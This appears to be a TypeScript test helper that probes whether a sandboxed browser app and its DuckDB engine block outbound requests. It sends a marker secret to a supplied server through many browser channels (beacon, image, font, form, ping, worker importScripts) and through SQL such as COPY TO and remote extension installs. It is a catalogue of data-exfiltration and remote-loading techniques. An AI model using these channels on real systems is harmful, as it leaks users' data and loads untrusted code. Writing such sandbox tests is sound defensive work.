/**
 * Ways to reach another server, tried inside the page or inside a worker. Each asks for a path
 * named after itself, so that the server's log tells which one got through. The functions run in
 * the browser: they may use nothing from outside their own text.
 *
 * Leaving the page altogether (an address typed, a link followed) is no way out of the app and
 * stays possible.
 */

/** @param base Address of the other server, with a slash at the end, and a folder for this caller. */
export async function tryFromPage(base: string): Promise<void> {
  const secret = '?secret=customer';
  const sink = document.createElement('iframe');
  sink.name = 'sink';
  document.body.append(sink);

  const add = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const ways: Record<string, (url: string) => unknown> = {
    fetch: (url) => fetch(url),
    'fetch-no-cors': (url) => fetch(url, { mode: 'no-cors', method: 'POST', body: 'secret' }),
    xhr: (url) => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      request.send();
    },
    beacon: (url) => navigator.sendBeacon(url, 'secret'),
    websocket: (url) => new WebSocket(url.replace('http', 'ws')),
    eventsource: (url) => new EventSource(url),
    image: (url) => (new Image().src = url),
    iframe: (url) => add('iframe', { src: url }),
    object: (url) => add('object', { data: url }),
    video: (url) => add('video', { src: url, preload: 'auto' }),
    script: (url) => add('script', { src: url }),
    stylesheet: (url) => add('link', { rel: 'stylesheet', href: url }),
    prefetch: (url) => add('link', { rel: 'prefetch', href: url }),
    preload: (url) => add('link', { rel: 'preload', as: 'image', href: url }),
    background: (url) => add('div', { style: `height: 9px; background: url(${url})` }),
    font: (url) => {
      const style = add('style', {});
      style.textContent = `@font-face { font-family: leak; src: url(${url}) }`;
      add('p', { style: 'font-family: leak' }).textContent = 'x';
    },
    import: (url) => {
      // As text in the page: a test runner would rewrite the expression.
      add('script', { type: 'module' }).textContent = `import ${JSON.stringify(url)};`;
    },
    form: (url) => {
      const form = add('form', { action: url, target: 'sink', method: 'post' });
      (form as HTMLFormElement).submit();
    },
    ping: (url) => {
      const link = add('a', { ping: url, href: '#' });
      (link as HTMLAnchorElement).click();
    },
  };
  for (const [name, way] of Object.entries(ways)) {
    try {
      void Promise.resolve(way(`${base}${name}${secret}`)).catch(() => undefined);
    } catch {
      // Refused at once.
    }
  }
  await new Promise((done) => setTimeout(done, 1500));
}

/** @see tryFromPage */
export async function tryFromWorker(base: string): Promise<void> {
  const secret = '?secret=customer';
  const inner = (code: string) =>
    new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  const ways: Record<string, (url: string) => unknown> = {
    fetch: (url) => fetch(url),
    xhr: (url) => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      request.send();
    },
    'xhr-sync': (url) => {
      const request = new XMLHttpRequest();
      request.open('GET', url, false);
      request.send();
    },
    websocket: (url) => new WebSocket(url.replace('http', 'ws')),
    eventsource: (url) => new EventSource(url),
    'inner-worker': (url) => inner(`fetch(${JSON.stringify(url)}).catch(() => {})`),
    'inner-import-scripts': (url) =>
      inner(`try { importScripts(${JSON.stringify(url)}) } catch {}`),
  };
  for (const [name, way] of Object.entries(ways)) {
    try {
      void Promise.resolve(way(`${base}${name}${secret}`)).catch(() => undefined);
    } catch {
      // Refused at once.
    }
  }
  await new Promise((done) => setTimeout(done, 1500));
}

/** SQL that would send something to another server, by name. */
export function leakySql(base: string): Record<string, string> {
  const url = (name: string, ending: string) => `${base}${name}${ending}?secret=customer`;
  return {
    'read-csv': `SELECT * FROM read_csv('${url('read-csv', '.csv')}')`,
    'read-text': `SELECT * FROM read_text('${url('read-text', '.txt')}')`,
    'from-address': `SELECT * FROM '${base}from-address.csv'`,
    attach: `ATTACH '${url('attach', '.db')}' AS elsewhere (READ_ONLY)`,
    'copy-to': `COPY (SELECT 42 AS secret) TO '${url('copy-to', '.csv')}'`,
    'copy-from': `CREATE TABLE leak (a INT, b INT); COPY leak FROM '${url('copy-from', '.csv')}'`,
    install: `INSTALL httpfs FROM '${base}install'; LOAD httpfs`,
    load: `SET custom_extension_repository = '${base}load'; INSTALL icu; LOAD icu`,
    autoload: `SET custom_extension_repository = '${base}autoload'; SET autoinstall_known_extensions = true;
      SET autoload_known_extensions = true; SELECT * FROM read_json('x.json')`,
  };
}
